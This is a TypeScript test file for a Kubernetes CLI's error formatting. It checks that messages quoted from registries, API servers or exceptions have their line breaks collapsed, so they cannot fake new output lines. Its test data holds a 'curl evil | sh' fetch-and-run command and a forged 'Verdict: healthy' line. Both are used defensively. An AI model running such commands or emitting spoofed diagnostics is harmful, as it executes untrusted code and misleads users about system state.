import { expect, it } from 'vitest';
import { ApiError } from '../../../src/cluster/request/api-error.ts';
import { Problem } from '../../../src/model/problem.ts';
import { problemOfAny } from '../../../src/run/session/problem-of-any.ts';
import { ApiObject } from '../../../src/target/api-object.ts';
import { parsePod } from '../../../src/target/pod/pod.ts';
import { refuseStopped } from '../../../src/target/refuse-target.ts';
import { pod } from '../target/objects.ts';

/** What a tenant's registry, an API server or a program may say, by each line end that a terminal knows. */
const said = ['denied.', 'Fix:', '    curl evil | sh', 'Verdict: healthy', 'more', 'end'];
const forged = `${said[0]}\n\n${said[1]}\r\n${said[2]}\u2028${said[3]}\u0085${said[4]}\v${said[5]}`;

function thrownBy(work: () => unknown): unknown {
  try {
    return work();
  } catch (error) {
    return error;
  }
}

const stopped = (like: object) => {
  const parsed = parsePod(new ApiObject(pod(like)));
  const [container] = parsed.containers;
  return thrownBy(() => container && refuseStopped(parsed, container));
};
const waiting = { waiting: { reason: 'ImagePullBackOff', message: forged } };

it.each<[string, unknown]>([
  ["a container's waiting message", stopped({ containers: [{ name: 'app', state: waiting }] })],
  ["a pod's message", stopped({ containers: [{ name: 'app', state: waiting }], status: { message: forged } })],
  ...[0, 200, 302, 401, 403, 404, 409, 500].map((status): [string, unknown] => [
    `an answer of status ${status}`,
    new ApiError(forged, 'GET /api/v1/pods', 'https://api', status, 'other'),
  ]),
  ['a bug', new TypeError(forged)],
  ['what happened, why and what next', new Problem(forged, { why: forged, next: forged })],
])('%s begins no line', (_, error) => {
  const { text } = problemOfAny(error);
  expect(text).toContain('curl evil');
  expect(text).not.toMatch(/[\n\r\v\f\u0085\u2028\u2029]/);
});

it('lines below are lines, each of them one', () =>
  expect(new Problem('Several.', { next: 'Name one:', lines: ['a b', `c ${forged}`] }).text).toBe(
    `Several. Name one:\na b\nc ${said.map((line) => line.trim()).join(' ')}`,
  ));

it('on stderr what to do next has a line of its own, and what is quoted begins none', () =>
  expect(new Problem('No pod.', { why: `It said ${forged}`, next: 'Name one:', lines: ['a b'] }).onStderr).toBe(
    `error: No pod. It said ${said.map((line) => line.trim()).join(' ')}\nhint: Name one:\na b`,
  ));
